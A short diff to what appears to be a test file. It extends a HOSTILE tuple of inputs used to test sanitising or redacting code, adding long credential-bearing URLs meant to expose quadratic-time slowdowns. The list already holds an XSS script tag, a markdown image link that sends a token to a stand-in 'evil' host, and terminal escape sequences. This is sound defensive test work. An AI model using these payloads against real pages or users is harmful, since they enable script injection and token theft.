@@ -167,6 +167,10 @@ HOSTILE = (
     "<script>alert(1)</script>",
     "](javascript:x) ![x](http://evil/?token=s3cret)",
     "\x1b[2J\u202e" + "x" * 5000,
+    # In a time that grew with the square of the length, this would take minutes.
+    "https://user:s3cret@host/" + "x" * 300_000,
+    "https://user:s3cret" + "x" * 5_000 + "@host/",
+    "word " * 199 + "https://user:s3cret" + "x" * 500 + "@host/",
 )
 
 
